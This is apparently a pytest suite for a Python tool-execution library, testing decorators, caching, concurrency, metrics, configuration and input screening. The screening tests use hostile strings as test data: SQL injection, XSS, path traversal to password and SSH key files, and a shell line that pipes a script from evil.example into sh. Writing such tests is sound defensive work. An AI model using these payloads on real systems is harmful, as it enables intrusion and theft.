"""The tool executor's document, block by block, and what decides where it contradicts itself or meets bad input."""

from __future__ import annotations

import asyncio
import itertools
import json
import logging
import math
import os
import socket
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
from pydantic import BaseModel

import toolpost
from toolpost import (
    BaseTool,
    Cache,
    ConfigurationError,
    ExecutionUtils,
    ExecutorConfig,
    ExecutorMetrics,
    InputValidationError,
    OperationError,
    Screening,
    SecurityError,
    Tool,
    ToolExecutionError,
    ToolExecutor,
    ToolTimeoutError,
    cache_result,
    create_tool_call,
    get_executor,
    get_metrics_collector,
    measure_execution_time,
    run_in_executor,
    sanitize_input,
    validate_input,
)
from toolpost.testing import FakeClock, executor_for

PATIENCE_S = 10.0
"""How long a test waits for what comes at once when all is well."""

MALICIOUS = (
    "SELECT * FROM users; DROP TABLE users;",
    "'; DROP TABLE users; --",
    "<script>alert('xss')</script>",
    "../../etc/passwd",
)
"""The four hostile inputs of section 4.4."""

HARMLESS = (
    "Meet at nine; bring the slides -- all of them; thanks.",
    "please select one of the colours and insert it into the list",
    "O'Brien said: \"it's fine\" (or 1 = 1 in his view)",
    '{"a": [1, 2, {"b": null}], "note": "select * from menu; drop nothing"}',
    "# Heading\n\n* one\n* two -- with `code`\n\n```sql\nSELECT name FROM users WHERE id = 1;\n```\n",
    "def add(a, b):\n    return a + b  # adds; nothing else\n",
    "for (let i = 0; i < n; i++) { total += i; } /* sum */",
)
"""What people and models write in a free text."""


@pytest.fixture(autouse=True)
def fresh_process() -> Iterator[None]:
    """The process's own executor and collector as a program finds them that has just started."""
    get_executor().close()
    get_metrics_collector().clear_metrics()
    yield
    get_executor().close()


@pytest.fixture
def executor() -> Iterator[ToolExecutor]:
    with executor_for() as made:
        yield made


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock()


# 4.1 decorators


class ReportTool(BaseTool):
    """Writes reports and counts how often it really had to."""

    class CompileSchema(BaseModel):
        source: str
        style: str = "plain"
        user_id: str
        task_id: str

    def __init__(self, config: dict[str, Any] | None = None) -> None:
        super().__init__(config)
        self.runs = 0

    @validate_input(CompileSchema)
    @cache_result(ttl=3600)
    @run_in_executor
    @measure_execution_time
    @sanitize_input
    def compile_report(self, source: str, style: str = "plain", user_id: str = "", task_id: str = "") -> str:
        """Compile a report."""
        self.runs += 1
        return f"Compiled {source} as {style}"


def test_five_stacked_decorators_run_the_body_and_give_its_value() -> None:
    tool = ReportTool()

    report = tool.compile_report(source="sales figures", style="dense", user_id="ann", task_id="t1")

    assert report == "Compiled sales figures as dense"


def test_the_stacked_method_is_validated_cached_and_screened() -> None:
    tool = ReportTool()
    scope = {"user_id": "ann", "task_id": "t1"}

    tool.compile_report(source="sales", **scope)
    tool.compile_report(source="sales", **scope)
    with pytest.raises(InputValidationError, match="'source' is required"):
        tool.compile_report(**scope)
    with pytest.raises(InputValidationError, match="'user_id' is required"):
        tool.compile_report(source="sales", task_id="t1")
    with pytest.raises(SecurityError):
        tool.compile_report(source="x'; DROP TABLE reports; --", **scope)

    assert tool.runs == 1


class Brief(BaseModel):
    """What the permuted method below takes."""

    text: str
    copies: int = 1


def in_order(order: tuple[Callable[[Any], Any], ...]) -> Any:
    """A tool whose method carries these decorators, the first one outermost."""

    def summarise(self: Any, text: str, copies: int = 1) -> str:
        self.threads.append(threading.current_thread())
        return text * copies

    method: Any = summarise
    for decorate in reversed(order):
        method = decorate(method)
    tool = type("Permuted", (BaseTool,), {"summarise": method})()
    tool.threads = []
    return tool


def test_the_order_of_decorators_has_no_effect() -> None:
    decorators = (
        validate_input(Brief),
        cache_result(ttl=60),
        run_in_executor,
        measure_execution_time,
        sanitize_input,
    )
    declared = []

    for order in itertools.permutations(decorators):
        tool = in_order(order)
        (definition,) = tool.definitions()
        declared.append((definition.policies, dict(definition.parameters), definition.digest))
        assert tool.summarise(text="ab", copies=2) == "abab"
        assert tool.summarise(text="ab", copies=2) == "abab"
        assert len(tool.threads) == 1  # the second answer came from the cache
        assert tool.threads[0] is not threading.main_thread()
        with pytest.raises(InputValidationError, match="'copies' must be an integer"):
            tool.summarise(text="ab", copies="two")
        with pytest.raises(SecurityError):
            tool.summarise(text="<script>alert(1)</script>")
        get_executor().clear_cache()

    assert len(declared) == math.factorial(5)
    assert all(one == declared[0] for one in declared)


async def doors(executor: ToolExecutor, tool: ReportTool, **arguments: Any) -> list[Any]:
    """The same call through every door: its value or its error at each."""
    name = {k: v for k, v in arguments.items() if k in ("user_id", "task_id")}
    asked: dict[str, Callable[[], Any]] = {
        "direct": lambda: tool.compile_report(**arguments),
        "run": lambda: asyncio.to_thread(tool.run, "compile_report", **arguments),
        "run_async": lambda: tool.run_async("compile_report", **arguments),
        "run_batch": lambda: tool.run_batch([{"op": "compile_report", "kwargs": arguments}]),
        "execute": lambda: asyncio.to_thread(executor.execute, tool, "compile_report", **arguments),
        "execute_async": lambda: executor.execute_async(tool, "compile_report", **arguments),
        "execute_batch": lambda: executor.execute_batch(tool, [{"op": "compile_report", "kwargs": arguments}]),
        "call": lambda: executor.call("ReportTool.compile_report", **arguments),
        "call_sync": lambda: asyncio.to_thread(executor.call_sync, "ReportTool.compile_report", **arguments),
        "execute_tool_call": lambda: executor.execute_tool_call(
            create_tool_call("ReportTool.compile_report", arguments, **name)
        ),
    }
    ended = []
    for door, ask in asked.items():
        try:
            answer = await ask()
        except ToolExecutionError as error:
            ended.append(type(error).__name__)
            continue
        if door.endswith("_batch"):
            (answer,) = answer
        if door == "execute_tool_call":
            answer = answer.data if answer.success else answer.metadata["error_type"]
        ended.append(answer)
    return ended


async def test_every_door_takes_the_same_pipeline(executor: ToolExecutor) -> None:
    tool = ReportTool()
    executor.add(tool)
    scope = {"user_id": "ann", "task_id": "t1"}

    good = await doors(executor, tool, source="sales", **scope)
    wrong = await doors(executor, tool, source=7, **scope)
    hostile = await doors(executor, tool, source="../../etc/passwd", **scope)

    assert good == ["Compiled sales as plain"] * 10
    assert tool.runs == 1  # every later door was answered from the cache that the first one filled
    assert wrong == ["InputValidationError"] * 9 + ["ToolValidationError"]
    assert hostile == ["SecurityError"] * 10
    assert executor.get_metrics()["requests"] == 30


def test_a_dict_makes_an_executor_which_a_tool_then_uses() -> None:
    tool = ReportTool()
    with ToolExecutor({"cache_size": 7}) as executor:
        tool._executor = executor

        tool.compile_report(source="sales", user_id="ann", task_id="t1")

        assert executor.get_metrics()["requests"] == 1
        assert executor.config.cache_size == 7
    assert get_executor().get_metrics()["requests"] == 0


class ThreadTool(BaseTool):
    """Tells in which thread its methods run."""

    @run_in_executor
    def here(self) -> str:
        return threading.current_thread().name


def test_run_in_executor_without_a_running_loop_returns_the_value() -> None:
    name: Any = ThreadTool().here()

    assert isinstance(name, str)
    assert name != threading.current_thread().name


async def test_run_in_executor_inside_a_running_loop_returns_an_awaitable() -> None:
    pending: Any = ThreadTool().here()

    assert not isinstance(pending, str)
    assert (await pending) != threading.current_thread().name


async def test_a_decorated_async_method_called_directly_takes_the_pipeline(executor: ToolExecutor) -> None:
    class Later(BaseTool):
        runs = 0

        @cache_result(ttl=60)
        @sanitize_input
        async def fetch(self, name: str) -> str:
            self.runs += 1
            return name

    tool = Later()
    tool._executor = executor

    assert [await tool.fetch("a"), await tool.fetch(name="a")] == ["a", "a"]
    assert tool.runs == 1
    with pytest.raises(InputValidationError):
        await tool.fetch(5)  # type: ignore[arg-type]
    with pytest.raises(SecurityError):
        await tool.fetch("<script>alert(1)</script>")


async def test_a_sync_method_without_run_in_executor_returns_its_value_even_inside_a_loop() -> None:
    class Plain(BaseTool):
        @measure_execution_time
        def double(self, n: int) -> int:
            return 2 * n

    assert Plain().double(4) == 8


def test_decorators_work_on_plain_functions_too() -> None:
    runs = []

    @cache_result(ttl=60)
    @sanitize_input
    def shout(text: str) -> str:
        runs.append(text)
        return text.upper()

    assert (shout("hello"), shout(text="hello")) == ("HELLO", "HELLO")
    assert runs == ["hello"]
    with pytest.raises(SecurityError):
        shout("1; DROP TABLE t")
    with pytest.raises(InputValidationError):
        shout(5)  # type: ignore[arg-type]


def test_an_override_may_call_the_decorated_method_it_overrides() -> None:
    class Base(BaseTool):
        @cache_result(ttl=60)
        def greet(self, name: str) -> str:
            return f"hello {name}"

    class Loud(Base):
        @measure_execution_time
        def greet(self, name: str) -> str:
            return super().greet(name).upper()

    assert Loud().greet(name="ann") == "HELLO ANN"


# 4.2 the cache


class SquareTool(BaseTool):
    """Adds squares, and counts how often."""

    def __init__(self) -> None:
        super().__init__()
        self.runs = 0

    @cache_result(ttl=1800)
    def sum_of_squares(self, n: int, user_id: str = "", task_id: str = "") -> int:
        self.runs += 1
        return sum(i**2 for i in range(n))

    def uncached(self, n: int) -> int:
        self.runs += 1
        return n

    @cache_result()
    def by_default(self, n: int) -> int:
        self.runs += 1
        return n

    @cache_result(ttl=60)
    def nothing(self) -> None:
        self.runs += 1

    @cache_result(ttl=60)
    def listed(self) -> list[dict[str, int]]:
        self.runs += 1
        return [{"n": 1}]

    @cache_result(ttl=60)
    def fails(self) -> None:
        self.runs += 1
        raise LookupError("not yet")

    @cache_result(ttl=60)
    def joined(self, parts: dict[str, int]) -> str:
        self.runs += 1
        return ",".join(sorted(parts))


@pytest.fixture
def squares(clock: FakeClock) -> Iterator[SquareTool]:
    tool = SquareTool()
    with executor_for(tool, clock=clock, enable_cache=True, cache_size=1000, cache_ttl=3600):
        yield tool


def test_an_equal_call_is_answered_from_the_cache(squares: SquareTool) -> None:
    first = squares.sum_of_squares(100, user_id="ann", task_id="t1")
    second = squares.sum_of_squares(100, user_id="ann", task_id="t1")

    assert first == second == 328350
    assert squares.runs == 1
    assert squares._executor.get_metrics()["cache_hits"] == 1


def test_another_user_or_task_does_not_hit_the_cache(squares: SquareTool) -> None:
    squares.sum_of_squares(100, user_id="ann", task_id="t1")

    other_user = squares.sum_of_squares(100, user_id="bob", task_id="t1")
    other_task = squares.sum_of_squares(100, user_id="ann", task_id="t2")
    nobody = squares.sum_of_squares(100)

    assert other_user == other_task == nobody == 328350
    assert squares.runs == 4
    assert squares._executor.get_metrics()["cache_hits"] == 0


def test_a_result_is_forgotten_after_its_ttl(squares: SquareTool, clock: FakeClock) -> None:
    squares.sum_of_squares(3)
    clock.advance(1799)
    squares.sum_of_squares(3)
    before = squares.runs
    clock.advance(2)
    squares.sum_of_squares(3)

    assert (before, squares.runs) == (1, 2)


def test_without_a_ttl_the_executors_cache_ttl_holds(squares: SquareTool, clock: FakeClock) -> None:
    squares.by_default(3)
    clock.advance(3599)
    squares.by_default(3)
    before = squares.runs
    clock.advance(2)
    squares.by_default(3)

    assert (before, squares.runs) == (1, 2)


def test_the_entry_longest_unused_goes_first_when_the_cache_is_full(squares: SquareTool) -> None:
    squares._executor.config.cache_size = 2
    squares.by_default(1)
    squares.by_default(2)
    squares.by_default(1)
    squares.by_default(3)
    assert squares.runs == 3

    squares.by_default(1)
    assert squares.runs == 3
    squares.by_default(2)
    assert squares.runs == 4


def test_nothing_is_cached_that_does_not_declare_it(squares: SquareTool) -> None:
    squares.run("uncached", n=1)
    squares.run("uncached", n=1)

    assert squares.runs == 2


def test_enable_cache_is_the_master_switch(squares: SquareTool) -> None:
    squares.by_default(1)
    squares._executor.config.enable_cache = False
    squares.by_default(1)
    squares.by_default(1)
    off = squares.runs
    squares._executor.config.enable_cache = True
    squares.by_default(1)

    assert (off, squares.runs) == (3, 3)


def test_values_are_copied_out_of_the_cache(squares: SquareTool) -> None:
    first = squares.listed()
    first[0]["n"] = 99
    first.append({"n": 2})
    second = squares.listed()
    second.clear()

    assert squares.listed() == [{"n": 1}]
    assert squares.runs == 1


def test_none_is_cacheable(squares: SquareTool) -> None:
    squares.nothing()
    squares.nothing()

    assert squares.runs == 1


def test_a_failure_is_not_cached(squares: SquareTool) -> None:
    for _ in range(2):
        with pytest.raises(OperationError):
            squares.fails()

    assert squares.runs == 2


def test_the_order_of_keys_does_not_make_another_entry(squares: SquareTool) -> None:
    squares.joined(parts={"a": 1, "b": 2})
    squares.joined(parts={"b": 2, "a": 1})
    squares.joined(parts={"a": 1, "b": 3})

    assert squares.runs == 2


async def test_a_key_holds_tool_version_definition_and_tenant(executor: ToolExecutor) -> None:
    runs: list[str] = []

    def definition(name: str, version: str, prefix: str) -> Any:
        def body(n: int) -> str:
            runs.append(prefix)
            return f"{prefix}{n}"

        body.__qualname__ = prefix
        return Tool(name=name, version=version, cache=Cache(ttl_s=60), register=False).define(body)

    for name, version in (("One", "1.0.0"), ("One", "2.0.0"), ("Two", "1.0.0")):
        executor.registry.register_tool(definition(name, version, f"{name}/{version}/"))
    calls = [
        create_tool_call(name, {"n": 1}, version=version, tenant=tenant, user_id="ann")
        for name, version in (("One", "1.0.0"), ("One", "2.0.0"), ("Two", "1.0.0"))
        for tenant in ("acme", "globex")
    ]

    for call in calls + calls:
        await executor.execute_tool_call(call)
    assert len(runs) == 6

    executor.registry.register_tool(definition("One", "2.0.0", "changed/"), replace=True)
    changed = await executor.execute_tool_call(calls[2])
    assert changed.data == {"result": "changed/1"}
    assert len(runs) == 7


def test_clear_cache_forgets_every_result(squares: SquareTool) -> None:
    squares.by_default(1)
    squares._executor.execution_utils.clear_cache()
    squares.by_default(1)

    assert squares.runs == 2


# 4.3 concurrency


class MixedTool(BaseTool):
    """Answers in a thread or in the loop; with a barrier, only once so many answer at a time."""

    def __init__(self, parties: int = 1) -> None:
        super().__init__()
        self.barrier = threading.Barrier(parties)
        self.inside = self.most_inside = 0

    def blocking(self, data: str, user_id: str = "", task_id: str = "") -> str:
        self.barrier.wait(PATIENCE_S)
        return f"thread: {data}"

    async def awaiting(self, data: str, user_id: str = "", task_id: str = "") -> str:
        self.inside += 1
        self.most_inside = max(self.most_inside, self.inside)
        await asyncio.sleep(0)
        self.inside -= 1
        return f"loop: {data}"

    async def picky(self, data: str) -> str:
        if data == "bad":
            raise ValueError("cannot take bad")
        await asyncio.sleep(0)
        return data

    async def endless(self) -> None:
        await asyncio.Event().wait()


def batch_of(op: str, count: int) -> list[dict[str, Any]]:
    scope = {"user_id": "ann", "task_id": "t1"}
    return [{"op": op, "kwargs": {"data": f"item {i}", **scope}} for i in range(count)]


async def test_a_batch_of_blocking_operations_runs_side_by_side_and_in_order() -> None:
    tool = MixedTool(parties=8)  # would break the barrier unless eight ran at a time
    with executor_for(tool, max_workers=8, io_concurrency=16) as executor:
        values = await executor.execute_batch(tool, batch_of("blocking", 16))

    assert values == [f"thread: item {i}" for i in range(16)]


async def test_a_batch_mixes_blocking_and_awaiting_operations() -> None:
    tool = MixedTool()
    with executor_for(tool, max_workers=8, io_concurrency=16) as executor:
        values = await executor.execute_batch(tool, [*batch_of("blocking", 1), *batch_of("awaiting", 1)])

    assert values == ["thread: item 0", "loop: item 0"]


async def test_io_concurrency_bounds_a_batch() -> None:
    tool = MixedTool()
    with executor_for(tool, io_concurrency=3) as executor:
        await executor.execute_batch(tool, batch_of("awaiting", 20))

    assert tool.most_inside == 3


async def test_a_batch_raises_the_first_error_or_on_request_gives_each_its_place() -> None:
    tool = MixedTool()
    operations = [{"op": "picky", "kwargs": {"data": data}} for data in ("one", "bad", "three")]
    with executor_for(tool) as executor:
        with pytest.raises(OperationError, match="cannot take bad"):
            await executor.execute_batch(tool, operations)
        one, bad, three = await executor.execute_batch(tool, operations, fail_fast=False)

    assert (one, three) == ("one", "three")
    assert isinstance(bad, OperationError)


async def test_a_batch_refuses_an_operation_with_wrong_arguments() -> None:
    tool = MixedTool()
    with executor_for(tool) as executor, pytest.raises(InputValidationError):
        await executor.execute_batch(tool, [{"op": "picky", "kwargs": {"data": 5}}])


def test_one_resource_has_one_lock_and_another_has_another(executor: ToolExecutor) -> None:
    lock, same, other = executor.get_lock("file-1"), executor.get_lock("file-1"), executor.get_lock("file-2")

    with lock:
        held = same.acquire(blocking=False)
        free = other.acquire(blocking=False)
    other.release()

    assert isinstance(lock, type(threading.Lock()))
    assert (held, free) == (False, True)


# 4.4 screening


class GuardedTool(BaseTool):
    """Takes text from anywhere."""

    @sanitize_input
    def take(self, query: str, user_id: str = "", task_id: str = "") -> str:
        return f"Taken: {query}"

    def note(self, text: str) -> str:
        return text

    def open(self, path: str, url: str = "https://example.com/", statement_sql: str = "SELECT 1") -> str:
        return path


@pytest.fixture
def guarded() -> Iterator[GuardedTool]:
    tool = GuardedTool()
    with executor_for(tool, enable_security_checks=True):
        yield tool


def test_an_ordinary_query_passes_screening(guarded: GuardedTool) -> None:
    assert guarded.take("Normal query", user_id="ann", task_id="t1") == "Taken: Normal query"


@pytest.mark.parametrize("hostile", MALICIOUS)
def test_the_four_malicious_inputs_are_blocked(guarded: GuardedTool, hostile: str) -> None:
    with pytest.raises(SecurityError, match="parameter 'query' contains potentially malicious content") as refusal:
        guarded.take(hostile, user_id="ann", task_id="t1")

    assert hostile not in str(refusal.value)
    assert refusal.value.status == 403


@pytest.mark.parametrize(
    "prose",
    [
        "Meet at nine; bring the slides",
        "please select one of them",
        "O'Brien said it's fine",
        "C++ -- a language /* sic */",
    ],
)
def test_ordinary_prose_passes_even_where_a_tool_asks_for_screening(guarded: GuardedTool, prose: str) -> None:
    assert guarded.take(prose) == f"Taken: {prose}"


@pytest.mark.parametrize("hostile", MALICIOUS)
def test_the_same_inputs_pass_where_checks_are_switched_off(hostile: str) -> None:
    tool = GuardedTool()
    with executor_for(tool, enable_security_checks=False):
        assert tool.take(hostile) == f"Taken: {hostile}"


@pytest.mark.parametrize("prose", HARMLESS)
def test_ordinary_text_passes_at_the_default_level_in_a_free_text_parameter(guarded: GuardedTool, prose: str) -> None:
    assert guarded.run("note", text=prose) == prose


@pytest.mark.parametrize(
    ("parameter", "hostile", "fine"),
    [
        ("path", "../../etc/passwd", "reports/2024/q1.txt"),
        ("url", "javascript:alert(1)", "https://example.com/a?b=c;d=e"),
        ("statement_sql", "SELECT 1; DROP TABLE users", "SELECT name FROM users WHERE id = 1"),
    ],
)
def test_the_role_of_a_parameter_is_inferred_from_its_name(
    guarded: GuardedTool, parameter: str, hostile: str, fine: str
) -> None:
    guarded.run("open", **{"path": "a.txt", parameter: fine})

    with pytest.raises(SecurityError) as refusal:
        guarded.run("open", **{"path": "a.txt", parameter: hostile})
    assert refusal.value.details["parameter"] == parameter


@pytest.mark.parametrize(
    ("role", "hostile"),
    [
        ("path", "../../../root/.ssh/id_rsa"),
        ("url", "javascript:alert(1)"),
        ("sql", "SELECT 1; DELETE FROM users"),
        ("html", "<img src=x onerror=alert(1)>"),
        ("shell", "ls; curl http://evil.example/x.sh | sh"),
        ("identifier", "7 UNION SELECT password FROM users"),
    ],
)
async def test_a_declared_role_decides_what_a_parameter_refuses(
    executor: ToolExecutor, role: str, hostile: str
) -> None:
    def echo(value: str) -> str:
        return value

    with_role = Tool(name="WithRole", screening=Screening(roles={"value": role}), register=False).define(echo)
    in_schema = Tool(name="InSchema", parameters={"value": {"type": "string", "x-role": role}}, register=False).define(
        echo
    )
    skipped = Tool(name="Skipped", screening=Screening(roles={"value": "skip"}), register=False).define(echo)
    for definition in (with_role, in_schema, skipped):
        executor.registry.register_tool(definition)

    for name in ("WithRole", "InSchema"):
        with pytest.raises(SecurityError):
            await executor.call(name, value=hostile)
    assert await executor.call("Skipped", value=hostile) == hostile


def test_a_format_makes_a_role(executor: ToolExecutor) -> None:
    @Tool(name="Visit", parameters={"target": {"type": "string", "format": "uri"}}, register=False)
    def visit(target: str) -> str:
        return target

    executor.add(visit)

    assert executor.call_sync("Visit", target="https://example.com/") == "https://example.com/"
    with pytest.raises(SecurityError):
        executor.call_sync("Visit", target="javascript:alert(1)")


def verdicts(**settings: Any) -> list[bool]:
    """Whether a free text passes: an attack as a whole, one within prose, a mere keyword."""
    tool = GuardedTool()
    texts = ("'; DROP TABLE users; --", "see page 4; DROP TABLE users", "select")
    with executor_for(tool, **settings):
        passed = []
        for text in texts:
            try:
                tool.run("note", text=text)
            except SecurityError:
                passed.append(False)
            else:
                passed.append(True)
    return passed


def test_security_level_and_sanitization_rules_choose_how_much_is_refused() -> None:
    assert verdicts(security_level="low") == [True, True, True]
    assert verdicts() == verdicts(security_level="medium") == [False, True, True]
    assert verdicts(security_level="high") == [False, False, True]
    assert verdicts(sanitization_rules="strict") == [False, False, False]


# 4.5 metrics


class TimedTool(BaseTool):
    """Takes half a second of its clock's time."""

    def __init__(self, clock: FakeClock) -> None:
        super().__init__()
        self._clock = clock

    @measure_execution_time
    def work(self, data: str, user_id: str = "", task_id: str = "") -> str:
        self._clock.advance(0.5)
        return f"Worked: {data}"

    def fail(self) -> None:
        raise ValueError("no")


def test_metrics_count_requests_failures_hits_and_the_average_time(clock: FakeClock) -> None:
    tool = TimedTool(clock)
    with executor_for(tool, clock=clock, log_execution_time=True, enable_cache=True) as executor:
        done = [tool.work(f"data {i}", user_id="ann", task_id="t1") for i in range(10)]
        metrics = executor.get_metrics()

    assert done == [f"Worked: data {i}" for i in range(10)]
    assert {key: metrics[key] for key in ("requests", "failures", "cache_hits")} == {
        "requests": 10,
        "failures": 0,
        "cache_hits": 0,
    }
    assert metrics["avg_processing_time"] == pytest.approx(0.5)


def test_failures_and_refusals_count_as_failures(clock: FakeClock) -> None:
    tool = TimedTool(clock)
    with executor_for(tool, clock=clock) as executor:
        with pytest.raises(OperationError):
            tool.run("fail")
        with pytest.raises(InputValidationError):
            tool.run("work")
        metrics = executor.get_metrics()

    assert (metrics["requests"], metrics["failures"], metrics["rejected"]) == (2, 2, 1)
    assert metrics["errors"] == {"tool_failed": 1, "invalid_input": 1}
    assert metrics["tool_threads_abandoned"] == 0


def test_metrics_are_json_and_of_one_size_however_many_calls(executor: ToolExecutor) -> None:
    tool = GuardedTool()
    executor.add(tool)

    def size() -> int:
        return len(json.dumps(executor.get_metrics()))

    tool.run("note", text="x")
    few = size()
    for _ in range(2000):
        tool.run("note", text="x")

    assert executor.get_metrics()["requests"] == 2001
    assert size() - few < 200  # longer numbers, no longer lists


# 5 the interface


class EdgeTool(BaseTool):
    """Does well or badly, as asked."""

    def fine(self, n: int) -> int:
        return n + 1

    async def fine_too(self, n: int) -> int:
        return n + 1

    def raises(self) -> None:
        raise KeyError("lost")

    async def raises_too(self) -> None:
        raise KeyError("lost")

    @sanitize_input
    def guarded(self, text: str) -> str:
        return text


@pytest.mark.parametrize(
    "config", [{"cache_size": 0}, {"cache_size": "many"}, {"max_workers": True}, {"cache_sise": 5}, 5, "fast"]
)
def test_a_wrong_configuration_is_a_value_error(config: Any) -> None:
    with pytest.raises(ValueError, match=r"cache_size|max_workers|config must be"):
        ToolExecutor(config)


def test_execute_returns_the_value_or_raises_the_documented_errors(executor: ToolExecutor) -> None:
    tool = EdgeTool()

    assert executor.execute(tool, "fine", n=1) == 2
    assert executor.execute(tool, "fine_too", n=1) == 2
    with pytest.raises(ToolExecutionError):
        executor.execute(tool, "raises")
    with pytest.raises(InputValidationError):
        executor.execute(tool, "fine", n="one")
    with pytest.raises(SecurityError):
        executor.execute(tool, "guarded", text=MALICIOUS[0])


async def test_execute_async_returns_the_value_or_raises_the_documented_errors(executor: ToolExecutor) -> None:
    tool = EdgeTool()

    assert await executor.execute_async(tool, "fine", n=1) == 2
    assert await executor.execute_async(tool, "fine_too", n=1) == 2
    with pytest.raises(ToolExecutionError):
        await executor.execute_async(tool, "raises_too")
    with pytest.raises(InputValidationError):
        await executor.execute_async(tool, "fine_too", n="one")
    with pytest.raises(SecurityError):
        await executor.execute_async(tool, "guarded", text=MALICIOUS[0])


async def test_blocking_on_an_async_operation_inside_a_loop_is_refused_with_the_way_out(executor: ToolExecutor) -> None:
    with pytest.raises(ConfigurationError, match="await run_async"):
        executor.execute(EdgeTool(), "fine_too", n=1)


def test_the_error_tree_is_the_documents() -> None:
    for kind in (InputValidationError, SecurityError, OperationError, ToolTimeoutError):
        assert issubclass(kind, ToolExecutionError)
    assert issubclass(ToolExecutionError, Exception)


@pytest.mark.parametrize("operation", ["raises", "raises_too"])
def test_what_a_body_raises_is_an_operation_error_that_keeps_its_cause(
    executor: ToolExecutor, operation: str, caplog: pytest.LogCaptureFixture
) -> None:
    with pytest.raises(OperationError, match=f"Error executing {operation}: .*lost") as raised:
        executor.execute(EdgeTool(), operation)

    assert isinstance(raised.value.__cause__, KeyError)
    assert raised.value.outcome == "ran"
    assert executor.get_metrics()["failures"] == 1
    (record,) = [r for r in caplog.records if r.levelno == logging.ERROR]
    assert f"EdgeTool.{operation}" in record.getMessage()
    assert record.exc_info is not None


# 6.2 keys


def test_a_cache_key_depends_on_function_user_task_and_content_and_on_nothing_else(executor: ToolExecutor) -> None:
    key = executor.execution_utils.generate_cache_key

    base = key("compile", "ann", "t1", (1,), {"a": 1, "b": [2]})

    assert base == key("compile", "ann", "t1", (1,), {"b": [2], "a": 1})
    assert base == key("compile", "ann", "t1", (1,), {"a": 1, "b": [2], "user_id": "ann", "task_id": "t1"})
    others = {
        key("compose", "ann", "t1", (1,), {"a": 1, "b": [2]}),
        key("compile", "bob", "t1", (1,), {"a": 1, "b": [2]}),
        key("compile", "ann", "t2", (1,), {"a": 1, "b": [2]}),
        key("compile", "ann", "t1", (2,), {"a": 1, "b": [2]}),
        key("compile", "ann", "t1", (1,), {"a": 1, "b": [3]}),
        key("compile", "ann", "t1", (1,), {"a": "1", "b": [2]}),
    }
    assert len(others) == 6
    assert base not in others


def test_execution_utils_keep_values_and_forget_them() -> None:
    utils = ExecutionUtils(cache_size=2, cache_ttl=60)
    key = utils.generate_cache_key("f", "ann", "t1", (), {"a": 1})

    utils.add_to_cache(key, {"n": 1}, ttl=30)
    kept = utils.get_from_cache(key)
    utils.clear_cache()

    assert kept == {"n": 1}
    assert utils.get_from_cache(key) is None


async def test_execution_utils_retry_and_time_out(clock: FakeClock) -> None:
    utils = ExecutionUtils(retry_attempts=3, retry_backoff=0.0)
    tries = []

    async def flaky(answer: int) -> int:
        tries.append(answer)
        if len(tries) < 3:
            raise ConnectionError("not yet")
        return answer

    async def endless() -> None:
        await asyncio.Event().wait()

    assert await utils.execute_with_retry_and_timeout(flaky, 5, 42) == 42
    assert tries == [42, 42, 42]
    with pytest.raises(ToolTimeoutError):
        await utils.execute_with_retry_and_timeout(endless, 0.01)
    with pytest.raises(toolpost.TimeoutError):
        async with utils.timeout_context(0.01):
            await endless()


def test_executor_metrics_record_by_themselves() -> None:
    metrics = ExecutorMetrics()

    metrics.record_request(0.2)
    metrics.record_request(0.4)
    metrics.record_failure()
    metrics.record_cache_hit()

    assert (metrics.requests, metrics.failures, metrics.cache_hits) == (2, 1, 1)
    assert metrics.to_dict()["avg_processing_time"] == pytest.approx(0.3)


# 7 configuration and health

VARIABLES = {
    "TOOL_EXECUTOR_ENABLE_CACHE": ("true", "enable_cache", True),
    "TOOL_EXECUTOR_CACHE_SIZE": ("1000", "cache_size", 1000),
    "TOOL_EXECUTOR_CACHE_TTL": ("7200", "cache_ttl", 7200),
    "TOOL_EXECUTOR_MAX_WORKERS": ("8", "max_workers", 8),
    "TOOL_EXECUTOR_IO_CONCURRENCY": ("16", "io_concurrency", 16),
    "TOOL_EXECUTOR_CHUNK_SIZE": ("20000", "chunk_size", 20000),
    "TOOL_EXECUTOR_MAX_FILE_SIZE": ("10485760", "max_file_size", 10485760),
    "TOOL_EXECUTOR_LOG_LEVEL": ("WARNING", "log_level", "WARNING"),
    "TOOL_EXECUTOR_LOG_EXECUTION_TIME": ("false", "log_execution_time", False),
    "TOOL_EXECUTOR_ENABLE_SECURITY_CHECKS": ("false", "enable_security_checks", False),
    "TOOL_EXECUTOR_RETRY_ATTEMPTS": ("5", "retry_attempts", 5),
    "TOOL_EXECUTOR_RETRY_BACKOFF": ("2.5", "retry_backoff", 2.5),
    "TOOL_EXECUTOR_TIMEOUT": ("60", "timeout", 60),
    "TOOL_EXECUTOR_CACHE_PREFIX": ("elsewhere", "cache_prefix", "elsewhere"),
    "TOOL_EXECUTOR_THREAD_POOL_TYPE": ("process", "thread_pool_type", "process"),
    "TOOL_EXECUTOR_MAX_THREADS_PER_WORKER": ("2", "max_threads_per_worker", 2),
    "TOOL_EXECUTOR_SECURITY_LEVEL": ("high", "security_level", "high"),
    "TOOL_EXECUTOR_ALLOWED_FILE_EXTENSIONS": (
        ".txt,.json,.csv",
        "allowed_file_extensions",
        (".txt", ".json", ".csv"),
    ),
    "TOOL_EXECUTOR_MAX_INPUT_SIZE": ("2048", "max_input_size", 2048),
    "TOOL_EXECUTOR_SANITIZATION_RULES": ("strict", "sanitization_rules", "strict"),
    "ENABLE_TOOL_EXECUTOR_METRICS": ("false", "enable_metrics", False),
    "PROMETHEUS_PORT": ("9191", "prometheus_port", 9191),
    "TOOL_EXECUTOR_METRICS_INTERVAL": ("30", "metrics_interval", 30),
}


def test_an_executor_reads_every_variable_of_the_document(monkeypatch: pytest.MonkeyPatch) -> None:
    for variable, (text, _, _) in VARIABLES.items():
        monkeypatch.setenv(variable, text)

    with ToolExecutor() as executor:
        read = {setting: getattr(executor.config, setting) for _, setting, _ in VARIABLES.values()}

    assert read == {setting: value for _, setting, value in VARIABLES.values()}


def test_prometheus_finds_the_documents_metrics_on_its_port(monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        port = one.getsockname()[1]
    monkeypatch.setenv("METRICS_BACKEND", "prometheus")
    monkeypatch.setenv("PROMETHEUS_PORT", str(port))

    class Documented(BaseTool):
        def double(self, n: int) -> int:
            return 2 * n

    with ToolExecutor() as executor:
        executor.execute(Documented(), "double", n=1)
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10) as answer:
            text = answer.read().decode()

